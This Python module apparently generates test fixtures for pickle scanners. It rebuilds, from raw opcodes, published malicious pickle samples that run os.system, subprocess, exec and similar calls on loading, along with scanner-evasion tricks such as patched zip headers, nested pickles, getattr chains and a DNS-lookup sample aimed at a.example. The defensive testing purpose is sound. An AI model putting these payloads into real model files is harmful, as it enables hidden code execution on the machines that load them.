"""Attacks as others have published and described them, put together here from single opcodes.

Nothing is pickled and nothing imported to make them: a sample is the names that it is known for,
and the way in which it calls them. Those that lie beside the repository as files are not here.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

PICKLESCAN, FICKLING, MODELSCAN = "picklescan", "fickling", "modelscan"


@dataclass(frozen=True)
class Attack:
    """A sample: where it was published, its bytes, and the names in it that are dangerous."""

    name: str
    origin: str
    data: bytes
    dangerous: frozenset[str]


def named(path: str, protocol: int = 2) -> bytes:
    """The opcodes that push a function; `path` has a colon before the name."""
    module, name = path.split(":")
    if protocol < 4:
        return f"c{module}\n{name}\n".encode()
    return text(module) + text(name) + b"\x93"


def text(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else _long(data)


def _long(data: bytes) -> bytes:
    return b"X" + struct.pack("<I", len(data)) + data


def pushed(value: object, protocol: int) -> bytes:
    match value:
        case bytes():
            return b"B" + struct.pack("<I", len(value)) + value
        case int():
            return b"J" + struct.pack("<i", value)
        case Raw():
            return value.opcodes
        case str():
            return text(value) if protocol >= 4 else _long(value.encode())
    raise TypeError(value)


@dataclass(frozen=True)
class Raw:
    """Opcodes that push one object."""

    opcodes: bytes


def calling(path: str | Raw, *args: object, protocol: int = 2) -> bytes:
    """The opcodes that call a function and leave its result."""
    head = path.opcodes if isinstance(path, Raw) else named(path, protocol)
    return head + b"(" + b"".join(pushed(each, protocol) for each in args) + b"tR"


def pickled(opcodes: bytes, protocol: int = 2) -> bytes:
    return (b"\x80" + bytes([protocol]) if protocol > 1 else b"") + opcodes + b"."


def zipped(data: bytes, name: str = "data.pkl", method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def patched(data: bytes, mark: bytes, offset: int, value: bytes) -> bytes:
    at = data.index(mark) + offset
    return data[:at] + value + data[at + len(value) :]


def array_of(data: bytes) -> bytes:
    """A file of numpy's that says it holds objects, and what would be unpickled for them."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


# Each calls one function with one text, and is published under the name of its advisory.
_ADVISORIES = {
    "GHSA-3gf5-cxq9-w223": "idlelib.pyshell:ModifiedInterpreter.runcode",
    "GHSA-4675-36f9-wf6r": "ctypes:CDLL",
    "GHSA-49gj-c84q-6qm9": "cProfile:run",
    "GHSA-4whj-rm5r-c2v8": "torch.utils.bottleneck.__main__:run_autograd_prof",
    "GHSA-6vqj-c2q5-j97w": "profile:Profile.runctx",
    "GHSA-7cq8-mj8x-j263": "idlelib.autocomplete:AutoComplete.fetch_completions",
    "GHSA-8r4j-24qv-fmq9": "idlelib.calltip:Calltip.fetch_tip",
    "GHSA-9w88-8rmg-7g2p": "cProfile:runctx",
    "GHSA-cj3c-v495-4xqh": "code:InteractiveInterpreter.runcode",
    "GHSA-f54q-57x4-jg88": "lib2to3.pgen2.grammar:Grammar.loads",
    "GHSA-fqq6-7vqf-w3fg": "doctest:debug_script",
    "GHSA-g38g-8gr9-h9xp-aix-support": "_aix_support:_read_cmd_output",
    "GHSA-g38g-8gr9-h9xp-osx-support": "_osx_support:_read_output",
    "GHSA-g38g-8gr9-h9xp-test": "test.support.script_helper:assert_python_ok",
    "GHSA-h3qp-7fh3-f8h4": "torch.utils.data.datapipes.utils.decoder:basichandlers",
    "GHSA-jgw4-cr84-mqxg": "asyncio.unix_events:_UnixSubprocessTransport._start",
    "GHSA-m273-6v24-x4m4": "distutils.file_util:write_file",
    "GHSA-p9w7-82w4-7q8m": "lib2to3.pgen2.pgen:ParserGenerator.make_label",
    "GHSA-r8g5-cgf2-4m4m": "numpy.f2py.crackfortran:getlincoef",
    "GHSA-vr7h-p6mm-wpmh": "torch.jit.unsupported_tensor_ops:execWrapper",
    "GHSA-vvpj-8cmc-gx39": "pkgutil:resolve_name",
    "GHSA-xp4f-hrf8-rxw7": "ensurepip:_run_pip",
}

# Others of one call, each with the protocol that it is published in.
_ONE_CALL = {
    PICKLESCAN: {
        "malicious1_v3": ("builtins:eval", 3),
        "malicious2_v0": ("posix:system", 0),
        "malicious2_v4": ("posix:system", 4),
        "malicious4": ("requests.api:get", 4),
        "malicious8": ("subprocess:run", 4),
        "malicious14": ("runpy:_run_code", 4),
        "malicious17": ("torch._inductor.codecache:compile_file", 4),
        "malicious19": ("torch.serialization:load", 4),
        "malicious21": ("timeit:timeit", 4),
        "malicious23": ("os:system", 4),
        "importlib_bypass": ("importlib:import_module", 4),
        "io_FileIO": ("_io:FileIO", 4),
        "logging_FileHandler": ("logging:FileHandler", 4),
        "urllib_request_urlopen": ("urllib.request:urlopen", 4),
    },
    FICKLING: {
        "os_popen": ("os:popen", 2),
        "os_execv": ("os:execv", 3),
        "subprocess_call": ("subprocess:call", 0),
        "subprocess_popen": ("subprocess:Popen", 1),
        "subprocess_check_output": ("subprocess:check_output", 5),
        "builtins_exec": ("builtins:exec", 4),
        "builtins_compile": ("builtins:compile", 4),
        "builtins_import": ("builtins:__import__", 4),
        "builtins_getattr": ("builtins:getattr", 4),
        "socket_socket": ("socket:socket", 4),
        "runpy_run_path": ("runpy:run_path", 5),
        "runpy_run_module": ("runpy:run_module", 2),
        "cprofile_run": ("cProfile:run", 5),
        "marshal_loads": ("marshal:loads", 3),
        "pydoc_locate": ("pydoc:locate", 4),
        "spawnv_passfds": ("multiprocessing.util:spawnv_passfds", 5),
        "sys_exit": ("sys:exit", 4),
        "ctypes_util": ("ctypes.util:find_library", 4),
        "importlib_util": ("importlib.util:find_spec", 4),
        "interactive_console": ("code:InteractiveConsole", 4),
        "smtplib": ("smtplib:SMTP", 4),
        "socketserver": ("socketserver:TCPServer", 4),
        "sqlite3": ("sqlite3:connect", 4),
    },
    MODELSCAN: {
        "mailcap": ("mailcap:findmatch", 4),
        "ctypes_blocklist": ("ctypes:PyDLL", 4),
        "webbrowser": ("webbrowser:open", 4),
        "eval_call": ("builtins:eval.__call__", 5),
    },
}


def attacks() -> list[Attack]:
    return [*_one_call(), *_of_picklescan(), *_of_fickling(), *_of_modelscan()]


def _of(origin: str, name: str, data: bytes, *dangerous: str) -> Attack:
    return Attack(f"{origin}-{name}", origin, data, frozenset(dangerous))


def _one_call() -> Iterator[Attack]:
    for name, path in _ADVISORIES.items():
        data = pickled(calling(path, "touch owned", protocol=4), 4)
        yield _of(PICKLESCAN, f"{name}.pkl", data, path.replace(":", "."))
    for origin, samples in _ONE_CALL.items():
        for name, (path, protocol) in samples.items():
            data = pickled(calling(path, "touch owned", protocol=protocol), protocol)
            yield _of(origin, f"{name}.pkl", data, path.replace(":", "."))


def _of_picklescan() -> Iterator[Attack]:
    """Those of the test data of picklescan that take more than one call."""
    evaluate = pickled(calling("builtins:eval", "1", protocol=4), 4)
    archive = zipped(evaluate)
    yield _of(PICKLESCAN, "malicious1.zip", archive, "builtins.eval")
    flags = patched(archive, b"PK\x01\x02", 8, b"\x20\x00")
    yield _of(PICKLESCAN, "malicious1_0x20.zip", flags, "builtins.eval")
    elsewhere = patched(archive, b"PK\x01\x02", 46, b"d.txt\0\0\0")
    yield _of(PICKLESCAN, "malicious1_central_directory.zip", elsewhere, "builtins.eval")
    yield _of(PICKLESCAN, "malicious1_wrong_ext.txt", zipped(evaluate, "data.txt"), "builtins.eval")
    # Slaviero's "Sour Pickles" (2011): globals(), compile, eval, and an attribute by getattr
    sour = (
        calling("__builtin__:globals", protocol=0)
        + b"p100\n0"
        + calling("__builtin__:compile", "pass", "", "exec", protocol=0)
        + b"p101\n0"
        + calling("__builtin__:eval", Raw(b"g101\n"), Raw(b"g100\n"), protocol=0)
        + b"0"
        + calling("__builtin__:getattr", Raw(named("__builtin__:dict", 0)), "get", protocol=0)
        + b"p103\n0"
        + calling("__builtin__:apply", Raw(b"g103\n"), Raw(b"(g100\nl"), protocol=0)
    )
    names = ("compile", "eval", "getattr", "apply", "globals")
    yield _of(PICKLESCAN, "malicious0.pkl", sour + b".", *(f"__builtin__.{n}" for n in names))
    two = pickled(b"]", 4) + pickled(calling("requests.api:get", "u", protocol=4), 4)
    yield _of(PICKLESCAN, "malicious6.pkl", two, "requests.api.get")
    memo = b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag\ntR."
    yield _of(PICKLESCAN, "malicious11.pkl", memo, "os.system")
    encoded = Raw(calling("_codecs:encode", "I1\n.", "latin1", protocol=0))
    nested = pickled(calling("pickle:loads", encoded, protocol=0), 0)
    yield _of(PICKLESCAN, "malicious13a.pkl", nested, "pickle.loads")
    debugger = Raw(calling("bdb:Bdb", protocol=4))
    run = pickled(calling("bdb:Bdb.run", debugger, "pass", protocol=4), 4)
    yield _of(PICKLESCAN, "malicious15b.pkl", run, "bdb.Bdb", "bdb.Bdb.run")
    broken = pickled(calling("builtins:exec", "pass", protocol=4), 4)[:-1] + b"\xff\xff"
    yield _of(PICKLESCAN, "broken_model.pkl", broken, "builtins.exec")
    locate = Raw(calling("pydoc:locate", "os.system", protocol=4))
    method = Raw(calling("operator:methodcaller", "__call__", "id", protocol=4))
    chain = pickled(calling(method, locate, protocol=4), 4)
    yield _of(PICKLESCAN, "GHSA-84r2-jw7c-4r5q.pkl", chain, "pydoc.locate", "operator.methodcaller")
    confused = pickled(calling("os:system", "id") + b"0J\x2a\0\0\0" + text("os") + b"\x93", 4)
    yield _of(PICKLESCAN, "type-confusion-exploit.pkl", confused, "os.system")
    code = Raw(calling("marshal:loads", b"N", protocol=4))
    function = calling("types:FunctionType", code, Raw(b"}"), protocol=4)
    data = pickled(function, 4)
    yield _of(PICKLESCAN, "marshal_bypass.pkl", data, "marshal.loads", "types.FunctionType")
    lookup = pickled(calling("ssl:get_server_certificate", "a.example", protocol=4), 4)
    yield _of(PICKLESCAN, "dns_exfiltration.npy", array_of(lookup), "ssl.get_server_certificate")
    override = b"\x80\x04" + named("sys:modules") + text("torch._utils")
    override += named("os:system") + b"s."
    yield _of(PICKLESCAN, "sys_module_override.pkl", override, "sys.modules", "os.system")


def _of_fickling() -> Iterator[Attack]:
    """Ways around scanners that its tests describe."""
    build = calling("pty:spawn", "id", protocol=4) + text("gottem") + b"b"
    yield _of(FICKLING, "pty_build.pkl", pickled(build, 4), "pty.spawn")
    obj = b"(" + named("pty:spawn") + b"S'id'\no."
    yield _of(FICKLING, "pty_obj.pkl", obj, "pty.spawn")
    popped = b"(" + named("os:system") + b"S'id'\no0N."
    yield _of(FICKLING, "obj_popped.pkl", popped, "os.system")
    instance = b"(S'id'\nios\nsystem\n."
    yield _of(FICKLING, "inst.pkl", instance, "os.system")
    for name, holder, attribute in (
        ("getattr_ctypes", Raw(calling("ctypes:CDLL", "libc", protocol=5)), "system"),
        ("getattr_importlib", Raw(calling("importlib:import_module", "os", protocol=5)), "system"),
        ("getattr_code", Raw(calling("code:InteractiveInterpreter", protocol=5)), "runsource"),
    ):
        got = Raw(calling("builtins:getattr", holder, attribute, protocol=5))
        data = pickled(calling(got, "id", protocol=5), 5)
        inner = holder.opcodes.decode("latin1").split("\x8c")
        path = f"{inner[1][1:]}.{inner[2][1:].partition(chr(0x93))[0]}"
        yield _of(FICKLING, f"{name}.pkl", data, "builtins.getattr", path)
    code = Raw(calling("marshal:loads", b"N", protocol=4))
    made = Raw(calling("types:FunctionType", code, Raw(b"}"), protocol=4))
    data = pickled(calling(made, protocol=4) + text("gottem") + b"b", 4)
    yield _of(FICKLING, "marshal_types.pkl", data, "marshal.loads", "types.FunctionType")
    windows = calling("pydoc:locate", "ctypes.windll.kernel32.WinExec", protocol=2) + b"p0\n00"
    yield _of(FICKLING, "pydoc_windll.pkl", pickled(windows + b"N"), "pydoc.locate")
    state = calling("io:BytesIO", b"", protocol=4) + b"}" + text("__setstate__")
    state += named("os:system", 4) + b"sb"
    yield _of(FICKLING, "reduce_build.pkl", pickled(state, 4), "os.system")
    call = pickled(calling("subprocess:call", "id", protocol=4), 4)
    inside = zipped(call, "model/archive/data.pkl", zipfile.ZIP_DEFLATED)
    yield _of(FICKLING, "nested_path.zip", inside, "subprocess.call")
    deep = zipped(pickled(calling("ctypes:CDLL", "libc.so.6", protocol=4), 4), "1/2/3/4/deep.pkl")
    yield _of(FICKLING, "deep.zip", deep, "ctypes.CDLL")
    wrong = patched(zipped(pickled(calling("os:system", "id"))), b"PK\x01\x02", 16, b"\xff\xff")
    yield _of(FICKLING, "central_crc.zip", wrong, "os.system")


def _of_modelscan() -> Iterator[Attack]:
    inner = pickled(calling("os:system", "echo", protocol=5), 5)
    outer = pickled(named("pickle:loads") + pushed(inner, 5) + b"\x85R0N", 5)
    yield _of(MODELSCAN, "malicious12.pkl", outer, "pickle.loads")
    trailing = b"Vos\np2\n0Vsystem\np3\n0g2\ng3\n\x93(Vcat flag\ntR.\n\n\t\t"
    yield _of(MODELSCAN, "malicious14.pkl", trailing, "os.system")
    execute = pickled(calling("builtins:exec", "pass", protocol=4), 4)
    yield _of(MODELSCAN, "unsafe_numpy.npy", array_of(execute), "builtins.exec")
    yield _of(MODELSCAN, "unsafe_numpy_plain.npy", execute, "builtins.exec")
    yield _of(MODELSCAN, "unsafe_zip_pytorch.pt", zipped(execute, "m/data.pkl"), "builtins.exec")
    yield _of(MODELSCAN, "malicious1.dill", execute[:-1] + b"0N.", "builtins.exec")
